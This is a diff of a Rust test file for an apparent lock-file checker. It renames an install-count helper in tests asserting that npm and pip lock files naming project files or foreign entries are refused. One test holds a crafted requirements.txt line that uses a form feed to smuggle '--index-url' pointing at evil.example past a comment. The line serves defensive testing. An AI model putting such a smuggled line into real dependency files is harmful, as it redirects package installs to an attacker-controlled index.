@@ -66,7 +66,7 @@ fn refuses_npm_lock_that_names_project_files() {
         assert_eq!(run.code, 1, "{message}: {run:?}");
         assert!(run.stderr.contains(message), "{message}: {}", run.stderr);
     }
-    assert_eq!(machine.installed(), 0, "{:?}", machine.logged());
+    assert_eq!(machine.install_count(), 0, "{:?}", machine.logged());
 }
 
 #[test]
@@ -83,7 +83,7 @@ fn pip_gets_only_checked_lines() {
         let message = "`requirements.txt`, line ";
         assert!(run.stderr.contains(message), "{}", run.stderr);
     }
-    assert_eq!(machine.installed(), 0, "{:?}", machine.logged());
+    assert_eq!(machine.install_count(), 0, "{:?}", machine.logged());
     // pip ends the comment at the form feed.
     let more =
         "one==1.0 --hash=sha256:00 # a comment\u{c}--index-url=https://evil.example/simple\n";
@@ -120,7 +120,7 @@ fn installs_nothing_from_lock_with_foreign_entry() {
         let run = machine.build();
         assert_eq!(run.code, 1, "{language}: {run:?}");
         assert!(run.stderr.contains(named), "{language}: {}", run.stderr);
-        assert_eq!(machine.installed(), 0, "{language}: {run:?}");
+        assert_eq!(machine.install_count(), 0, "{language}: {run:?}");
     }
 }
 
